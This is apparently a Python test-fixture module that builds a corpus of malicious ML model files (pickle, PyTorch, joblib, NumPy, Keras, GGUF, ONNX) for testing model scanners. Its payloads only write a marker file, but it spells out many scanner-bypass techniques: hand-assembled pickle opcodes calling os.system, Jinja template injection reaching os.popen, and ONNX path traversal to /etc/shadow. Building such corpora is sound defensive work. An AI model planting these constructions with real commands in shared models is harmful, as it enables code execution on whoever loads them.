"""Malicious model files that are harmless when loaded: every payload only writes a marker
file (or calls a harmless function through a dangerous global).

Each sample is (name, path); ``build_malicious(out, marker)`` writes them all. They cover
the bypasses that defeat denylist scanners: unlisted gadgets, dotted names, memo and
STACK_GLOBAL tricks, EXT codes, INST/OBJ/NEWOBJ, broken streams, payloads in later
pickles, malformed zips, nested containers, and every non-pickle format's code paths.
"""

from __future__ import annotations

import contextlib
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
from model_corpus_loaders import MaliciousSample
from tf_protobuf import savedmodel_bytes

P = pickle


def s0(text: str) -> bytes:
    """Protocol 0 STRING operand."""
    return b"S" + repr(text).encode() + b"\n"


def u(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE operand."""
    raw = text.encode()
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    return u(module) + u(name) + b"\x93"


def call0(module: str, name: str, arg: str) -> bytes:
    """Protocol 0: module.name(arg)."""
    return glob(module, name) + b"(" + s0(arg) + b"tR"


def shell(marker: Path) -> str:
    return f"echo pwned > {marker}"


def pycode(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('pwned')"


class Reduce:
    """An object whose pickle calls ``func(*args)``."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def _dill_function_call(code: str) -> bytes:
    """A dill pickle that rebuilds a function from its code (dill._dill._create_code) and
    calls it."""
    import types

    import dill

    func = types.FunctionType(compile(code, "<payload>", "exec"), {})
    return dill.dumps(Reduce(func), protocol=4)


def raw_pickles(m: Path) -> dict[str, bytes]:
    """Hand-assembled pickle streams, one bypass each."""
    code, cmd = pycode(m), shell(m)
    codeobj = marshal.dumps(compile(code, "<payload>", "exec"))
    proto4 = b"\x80\x04"
    return {
        "os_system_p0": call0("os", "system", cmd) + b".",
        "posix_system": call0("posix", "system", cmd) + b".",
        "builtins_exec_stack_global": proto4 + sglob("builtins", "exec") + u(code) + b"\x85R.",
        "py2_builtin_eval": b"\x80\x02" + glob("__builtin__", "eval") + u(code) + b"\x85R.",
        "subprocess_check_output": proto4
        + sglob("subprocess", "check_output")
        + b"]("
        + u("sh")
        + u("-c")
        + u(cmd)
        + b"e\x85R.",
        "runpy_run_path": call0("runpy", "run_path", "/nonexistent/x.py") + b".",
        "pkgutil_resolve_name": proto4
        + sglob("pkgutil", "resolve_name")
        + u("os:system")
        + b"\x85R"
        + u(cmd)
        + b"\x85R.",
        "timeit_stmt": proto4
        + sglob("timeit", "timeit")
        + b"("
        + u(code)
        + u("pass")
        + sglob("time", "perf_counter")
        + b"K\x01tR.",
        "pip_main": call0("pip", "main", "--version") + b".",
        "importlib_import_module": proto4 + sglob("importlib", "import_module") + u("os") + b"\x85R.",
        "inspect_getattr": proto4 + sglob("inspect", "getattr_static") + b"N" + u("x") + b"\x86R.",
        "dotted_pathlib_os_system": proto4 + sglob("pathlib", "os.system") + u(cmd) + b"\x85R.",
        # A function's __builtins__ reaches exec from under any allowed module.
        "dotted_allowlisted_prefix": proto4
        + sglob("collections", "namedtuple.__builtins__.get")
        + u("exec")
        + b"\x85R"
        + u(code)
        + b"\x85R.",
        "dotted_torch_utils": proto4
        + sglob("torch._utils", "_rebuild_tensor_v2.__builtins__.get")
        + u("exec")
        + b"\x85R"
        + u(code)
        + b"\x85R.",
        "memo_stack_global": proto4
        + u("os")
        + b"\x94"
        + u("system")
        + b"\x94"
        + b"0"
        + b"0"
        + b"h\x00h\x01\x93"
        + u(cmd)
        + b"\x85R.",
        "memo_overwrite": proto4
        + u("collections")
        + b"q\x01"
        + u("os")
        + b"q\x01"
        + b"00"
        + b"h\x01"
        + u("system")
        + b"\x93"
        + u(cmd)
        + b"\x85R.",
        "stack_global_from_call": proto4
        + sglob("builtins", "str")
        + u("os")
        + b"\x85R"
        + u("system")
        + b"\x93"
        + u(cmd)
        + b"\x85R.",
        "ext_code": b"\x80\x02\x82\x01" + u(cmd) + b"\x85R.",
        "inst_opcode": b"(" + s0(cmd) + b"ios\nsystem\n.",
        "obj_opcode": b"(" + glob("os", "system") + s0(cmd) + b"o.",
        "newobj_popen": b"\x80\x02" + glob("subprocess", "Popen") + b")\x81.",
        "newobj_ex": proto4 + sglob("subprocess", "Popen") + b")}\x92.",
        "call_of_call_result": proto4
        + sglob("operator", "methodcaller")
        + u("system")
        + u(cmd)
        + b"\x86R"
        + sglob("importlib", "import_module")
        + u("os")
        + b"\x85R\x85R.",
        # _reconstructor(cls, base, state) runs base.__init__(obj, state).
        "reconstructor_higher_order": b"\x80\x02"
        + glob("copy_reg", "_reconstructor")
        + glob("subprocess", "Popen")
        + glob("subprocess", "Popen")
        + b"]("
        + u("sh")
        + u("-c")
        + u(cmd)
        + b"e\x87R.",
        "build_setstate_exec": proto4
        + sglob("collections", "OrderedDict")
        + b")R"
        + b"N}"
        + u("__setstate__")
        + sglob("builtins", "exec")
        + b"s\x86b"
        + u(code)
        + b"b.",
        "second_pickle_payload": pickle.dumps({"ok": 1}) + call0("os", "system", cmd) + b".",
        "broken_after_payload": call0("os", "system", cmd),
        "unknown_opcode_after_payload": call0("os", "system", cmd) + b"\xff.",
        "underflow_after_payload": call0("os", "system", cmd) + b"00000.",
        "proto_midstream": u("os") + b"\x80\x04" + u("system") + b"\x93(" + s0(cmd) + b"tR.",
        "frame_lie": proto4 + b"\x95" + struct.pack("<Q", 3) + sglob("os", "system") + u(cmd) + b"\x85R.",
        "functools_partial": proto4
        + sglob("functools", "partial")
        + sglob("os", "system")
        + u(cmd)
        + b"\x86R)R.",
        "operator_attrgetter": proto4
        + sglob("operator", "attrgetter")
        + u("system")
        + b"\x85R"
        + sglob("importlib", "import_module")
        + u("os")
        + b"\x85R\x85R"
        + u(cmd)
        + b"\x85R.",
        "webbrowser_open": call0("webbrowser", "open", "http://127.0.0.1:9/") + b".",
        "socket_connection": proto4
        + sglob("socket", "create_connection")
        + u("127.0.0.1")
        + b"K\x09\x86\x85R.",
        "shutil_rmtree": call0("shutil", "rmtree", "/nonexistent-mlward") + b".",
        "ctypes_cdll": call0("ctypes", "CDLL", "libc.so.6") + b".",
        "marshal_types_function": proto4
        + sglob("types", "FunctionType")
        + sglob("marshal", "loads")
        + b"B"
        + struct.pack("<I", len(codeobj))
        + codeobj
        + b"\x85R}\x86R)R.",
        "torch_load_reentry": proto4 + sglob("torch", "load") + u("/nonexistent.pt") + b"\x85R.",
        "numpy_load_reentry": proto4 + sglob("numpy", "load") + u("/nonexistent.npy") + b"\x85R.",
        "joblib_load_reentry": proto4 + sglob("joblib", "load") + u("/nonexistent.j") + b"\x85R.",
        "code_interact": call0("code", "interact", "x") + b".",
        "sys_modules": proto4 + sglob("sys", "modules") + b".",
        "asyncio_subprocess": proto4
        + sglob("asyncio", "run")
        + sglob("asyncio.subprocess", "create_subprocess_shell")
        + u(cmd)
        + b"\x85R\x85R.",
        "unknown_library_function": proto4 + sglob("mylib.evil", "run") + b")R.",
        "main_module_class": proto4 + sglob("__main__", "Exploit") + b")\x81.",
        "dill_create_code": _dill_function_call(code),
        "dill_load_type_codetype": proto4
        + sglob("dill._dill", "_load_type")
        + u("FunctionType")
        + b"\x85R"
        + sglob("marshal", "loads")
        + b"B"
        + struct.pack("<I", len(codeobj))
        + codeobj
        + b"\x85R}\x86R)R.",
        "pandas_hdfstore": proto4 + sglob("pandas", "HDFStore") + u(str(m)) + b"\x85R.",
        "numpy_memmap": proto4
        + sglob("numpy", "memmap")
        + b"("
        + u(str(m))
        + u("uint8")
        + u("w+")
        + b"K\x00K\x01\x85t"
        + b"R.",
    }


def _write(out: Path, name: str, data: bytes) -> Path:
    path = out / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            z.writestr(name, data)
    return buf.getvalue()


def _evil(m: Path) -> Reduce:
    return Reduce(os.system, shell(m))


def container_samples(out: Path, m: Path) -> list[Path]:
    """Payloads inside PyTorch, joblib, NumPy and archive containers."""
    import joblib
    import torch

    out.mkdir(parents=True, exist_ok=True)
    paths = []
    p = out / "torch_zip_reduce.pt"
    torch.save({"w": torch.ones(2), "x": _evil(m)}, p)
    paths.append(p)
    benign = io.BytesIO()
    torch.save({"w": torch.ones(2)}, benign)
    with zipfile.ZipFile(benign) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    evil = call0("os", "system", shell(m)) + b"."
    paths.append(
        _write(out, "torch_zip_odd_member.pt", _zip([*members, ("archive/extra/anything.pkl", evil)]))
    )
    swapped = [(n, evil if n.endswith("data.pkl") else d) for n, d in members]
    whole = _zip(swapped)
    paths.append(_write(out, "torch_zip_no_central_dir.pt", whole[: whole.rfind(b"PK\x01\x02")]))
    renamed = _zip(swapped).replace(b"data.pkl", b"data.pkx", 1)  # local header only
    paths.append(_write(out, "torch_zip_name_mismatch.pt", renamed))
    paths.append(_write(out, "torch_zip_prepended.pt", b"JUNK" * 100 + _zip(swapped)))
    hidden = _zip([("weights.npy", b"\x93NUMPY\x01\x00\x10\x00{'descr': '<f4', }")])
    cd = hidden.rfind(b"PK\x01\x02")
    local = zipfile.ZipInfo("payload.pkl")
    extra = _zip([("payload.pkl", evil)])
    lh = extra[: extra.rfind(b"PK\x01\x02")]
    shift = len(lh)
    fixed_cd = bytearray(hidden[cd:])
    eocd = fixed_cd.rfind(b"PK\x05\x06")
    struct.pack_into("<I", fixed_cd, 42, struct.unpack_from("<I", fixed_cd, 42)[0] + shift)
    struct.pack_into("<I", fixed_cd, eocd + 16, cd + shift)
    del local
    paths.append(_write(out, "zip_hidden_local_member.zip", lh + hidden[:cd] + bytes(fixed_cd)))
    legacy = io.BytesIO()
    torch.save({"x": _evil(m)}, legacy, _use_new_zipfile_serialization=False)
    paths.append(
        _write(
            out,
            "torch_load_from_bytes.pkl",
            pickle.dumps({"t": Reduce(torch.storage._load_from_bytes, legacy.getvalue())}),
        )
    )
    p = out / "torch_legacy_4th_pickle.pt"
    torch.save({"x": _evil(m)}, p, _use_new_zipfile_serialization=False)
    paths.append(p)
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in [
            ("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
            ("pickle", evil),
            ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
        ]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    paths.append(_write(out, "torch_legacy_tar.pt", tar_buf.getvalue()))
    for name, compress in [("joblib_reduce.joblib", 0), ("joblib_zlib.joblib", 3)]:
        p = out / name
        joblib.dump({"a": np.arange(3.0), "x": _evil(m)}, p, compress=compress)
        paths.append(p)
    p = out / "joblib_object_array.joblib"
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "fine", _evil(m)
    joblib.dump({"model": np.ones(4), "objs": arr}, p)
    paths.append(p)
    npy = io.BytesIO()
    np.save(npy, arr, allow_pickle=True)
    paths.append(_write(out, "object_array.npy", npy.getvalue()))
    npz = io.BytesIO()
    np.savez(npz, ok=np.ones(2), objs=arr)
    paths.append(_write(out, "object_array.npz", npz.getvalue()))
    import gzip

    paths.append(_write(out, "pickle.pkl.gz", gzip.compress(evil)))
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w") as tar:
        info = tarfile.TarInfo("models/model.pkl")
        info.size = len(evil)
        tar.addfile(info, io.BytesIO(evil))
    paths.append(_write(out, "archive.tar", tar_buf.getvalue()))
    paths.append(_write(out, "nested.zip", _zip([("inner.zip", _zip([("m.bin", evil)]))])))
    try:
        import py7zr

        p = out / "archive.7z"
        with py7zr.SevenZipFile(p, "w") as z:
            z.writestr(evil, "model.pkl")
        paths.append(p)
    except ImportError:
        pass
    paths.append(_write(out, "README.txt", call0("os", "system", shell(m)) + b"."))
    return paths


def _keras_zip(config: dict[str, object]) -> bytes:
    return _zip(
        [("config.json", json.dumps(config).encode()), ("metadata.json", b'{"keras_version": "3.0.0"}')]
    )


def _keras_models(out: Path, m: Path) -> list[Path]:
    """Models that Keras itself saved, with a Lambda whose code writes the marker."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    source = f"lambda x: (open({str(m)!r}, 'w').write('pwned'), x)[1]"
    seq = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1), keras.layers.Lambda(eval(source))])
    inputs = keras.Input((3, 2))
    nested = keras.layers.TimeDistributed(keras.layers.Lambda(eval(source)))(inputs)
    paths = [out / "keras_lambda.keras", out / "keras_nested_lambda.keras", out / "keras_lambda_legacy.h5"]
    seq.save(paths[0])
    keras.Model(inputs, nested).save(paths[1])
    seq.save(paths[2])
    return paths


def keras_samples(out: Path, m: Path) -> list[Path]:
    """Keras models with Lambda code (saved by Keras), foreign modules and custom objects."""
    out.mkdir(parents=True, exist_ok=True)
    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}, "registered_name": None}
    return [
        *_keras_models(out, m),
        _write(
            out,
            "keras_os_module.keras",
            _keras_zip(
                {
                    "module": "keras",
                    "class_name": "Sequential",
                    "registered_name": None,
                    "config": {
                        "layers": [
                            {"module": "os", "class_name": "system", "config": {}, "registered_name": None}
                        ]
                    },
                }
            ),
        ),
        _write(
            out,
            "keras_builtins_function.keras",
            _keras_zip(
                {
                    "module": "keras",
                    "class_name": "Sequential",
                    "registered_name": None,
                    "config": {
                        "layers": [dense],
                        "activation": {
                            "module": "builtins",
                            "class_name": "function",
                            "config": "eval",
                            "registered_name": "function",
                        },
                    },
                }
            ),
        ),
        _write(
            out,
            "keras_custom_object.keras",
            _keras_zip(
                {
                    "module": "keras",
                    "class_name": "Sequential",
                    "registered_name": None,
                    "config": {
                        "layers": [
                            {
                                "module": "evil_pkg.layers",
                                "class_name": "Backdoor",
                                "config": {},
                                "registered_name": "evil>Backdoor",
                            }
                        ]
                    },
                }
            ),
        ),
    ]


def other_format_samples(out: Path, m: Path) -> list[Path]:
    """TensorFlow ops, ONNX external data, GGUF templates."""
    import gguf
    import onnx
    from onnx import TensorProto, helper

    out.mkdir(parents=True, exist_ok=True)
    paths = [
        _write(out, "tf_pyfunc/saved_model.pb", savedmodel_bytes(["Placeholder", "PyFunc"])),
        _write(
            out,
            "tf_readfile/saved_model.pb",
            savedmodel_bytes(["Const"], function_ops=["ReadFile", "WriteFile"]),
        ),
    ]
    for name, location in [
        ("onnx_traversal.onnx", "../../../../etc/passwd"),
        ("onnx_absolute.onnx", "/etc/shadow"),
    ]:
        t = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
        t.ClearField("float_data")
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "4")):
            e = t.external_data.add()
            e.key, e.value = k, v
        graph = helper.make_graph(
            [helper.make_node("Relu", ["w"], ["y"])],
            "g",
            [],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
            [t],
        )
        p = out / name
        onnx.save(helper.make_model(graph), p)
        paths.append(p)
    cmd = shell(m)
    templates = {
        "gguf_ssti.gguf": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
        "{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['open']("
        f"{str(m)!r}, 'w').write('pwned') }}}}{{% endif %}}{{% endfor %}}",
        "gguf_ssti_cycler.gguf": f"{{{{ cycler.__init__.__globals__.os.popen({cmd!r}).read() }}}}",
        "gguf_ssti_attr.gguf": "{{ (cycler|attr('\\x5f\\x5finit\\x5f\\x5f')"
        "|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen("
        f"{cmd!r}).read() }}}}",
    }
    for name, template in templates.items():
        p = out / name
        w = gguf.GGUFWriter(p, "llama")
        w.add_string("tokenizer.chat_template", template)
        w.add_tensor("w", np.ones(2, dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        paths.append(p)
    return paths


# How a victim loads each sample and what proves its payload ran (see model_corpus_loaders);
# a sample not listed is a pickle whose payload writes the marker under pickle.load.
_PROOF: dict[str, tuple[str, str]] = {
    "second_pickle_payload.pkl": ("pickle.load twice", "marker"),
    "runpy_run_path.pkl": ("pickle.load", "call:runpy.run_path"),
    "pip_main.pkl": ("pickle.load", "call:pip.main"),
    "importlib_import_module.pkl": ("pickle.load", "call:importlib.import_module"),
    "inspect_getattr.pkl": ("pickle.load", "call:inspect.getattr_static"),
    "ext_code.pkl": (
        "pickle.load",
        "inert:extension code 1 is not registered (copyreg) in any real loading process",
    ),
    "newobj_popen.pkl": ("pickle.load", "inert:NEWOBJ only calls Popen.__new__; no process starts"),
    "newobj_ex.pkl": ("pickle.load", "inert:NEWOBJ_EX only calls Popen.__new__; no process starts"),
    "webbrowser_open.pkl": ("pickle.load", "call:webbrowser.open"),
    "socket_connection.pkl": ("pickle.load", "audit:socket.connect"),
    "shutil_rmtree.pkl": ("pickle.load", "audit:shutil.rmtree"),
    "ctypes_cdll.pkl": ("pickle.load", "audit:ctypes.dlopen"),
    "torch_load_reentry.pkl": ("pickle.load", "call:torch.load"),
    "numpy_load_reentry.pkl": ("pickle.load", "call:numpy.load"),
    "joblib_load_reentry.pkl": ("pickle.load", "call:joblib.load"),
    "code_interact.pkl": ("pickle.load", "call:code.interact"),
    "sys_modules.pkl": ("pickle.load", "inert:only resolves sys.modules; calls nothing"),
    "unknown_library_function.pkl": (
        "pickle.load",
        "inert:runs only where a package mylib.evil is installed",
    ),
    "main_module_class.pkl": ("pickle.load", "inert:runs only where __main__ defines Exploit"),
    "pandas_hdfstore.pkl": ("pickle.load", "call:pandas.HDFStore.__init__"),
    "torch_zip_reduce.pt": ("torch.load", "marker"),
    "torch_zip_odd_member.pt": ("torch.load", "inert:torch.load reads data.pkl only, never another member"),
    "torch_zip_no_central_dir.pt": (
        "torch.load",
        "inert:torch.load refuses a zip without its central directory",
    ),
    "torch_zip_name_mismatch.pt": ("torch.load", "marker"),
    "torch_zip_prepended.pt": ("torch.load", "inert:torch.load refuses a zip with bytes in front"),
    "zip_hidden_local_member.zip": (
        "zipfile+pickle.load",
        "inert:the member is only in a local header; zipfile-based loaders never see it",
    ),
    "torch_legacy_4th_pickle.pt": ("torch.load", "marker"),
    "torch_legacy_tar.pt": ("torch.load", "marker"),
    "joblib_reduce.joblib": ("joblib.load", "marker"),
    "joblib_zlib.joblib": ("joblib.load", "marker"),
    "joblib_object_array.joblib": ("joblib.load", "marker"),
    "object_array.npy": ("numpy.load", "marker"),
    "object_array.npz": ("numpy.load npz", "marker"),
    "pickle.pkl.gz": ("gzip+pickle.load", "marker"),
    "archive.tar": ("tarfile+pickle.load", "marker"),
    "nested.zip": ("zip-in-zip+pickle.load", "marker"),
    "archive.7z": ("py7zr+pickle.load", "marker"),
    "keras_lambda.keras": ("keras.models.load_model", "marker"),
    "keras_nested_lambda.keras": ("keras.models.load_model", "marker"),
    "keras_lambda_legacy.h5": ("keras.models.load_model", "marker"),
    "keras_os_module.keras": (
        "keras.models.load_model",
        "inert:Keras 3 imports no module outside keras for a layer",
    ),
    "keras_builtins_function.keras": (
        "keras.models.load_model",
        "inert:Keras 3 refuses a builtins function as an activation",
    ),
    "keras_custom_object.keras": ("keras.models.load_model", "inert:runs only where evil_pkg is installed"),
    "onnx_traversal.onnx": ("onnx.load", "inert:onnx refuses external data outside the model directory"),
    "onnx_absolute.onnx": ("onnx.load", "inert:onnx refuses an absolute external data path"),
    "saved_model.pb": (
        "tensorflow.saved_model.load",
        "unverified:a hand-built graph; TensorFlow is not installed to load it",
    ),
}
_GGUF = ("gguf chat template (unsandboxed jinja2)", "marker")


def build_malicious_samples(out: Path, marker: Path) -> list[MaliciousSample]:
    """Write the whole malicious corpus under ``out`` with each sample's loader and proof.

    Payloads write ``marker`` only; pass a relative path to have them write it in the
    working directory of whatever loads them.
    """
    out.mkdir(parents=True, exist_ok=True)
    out = out.resolve()
    # Keras calls a Lambda layer while building the model, so a relative marker would land in
    # the caller's working directory (the repository, under pytest): build inside ``out``.
    with contextlib.chdir(out):
        paths = [_write(out / "pickle", f"{name}.pkl", data) for name, data in raw_pickles(marker).items()]
        paths += container_samples(out / "containers", marker)
        paths += keras_samples(out / "keras", marker)
        paths += other_format_samples(out / "other", marker)
    samples = []
    for path in paths:
        loader, evidence = (
            _GGUF if path.suffix == ".gguf" else _PROOF.get(path.name, ("pickle.load", "marker"))
        )
        samples.append(MaliciousSample(path, loader, evidence))
    return samples


def build_malicious(out: Path, marker: Path) -> list[Path]:
    """Write the whole malicious corpus under ``out``; payloads write ``marker`` only."""
    return [s.path for s in build_malicious_samples(out, marker)]
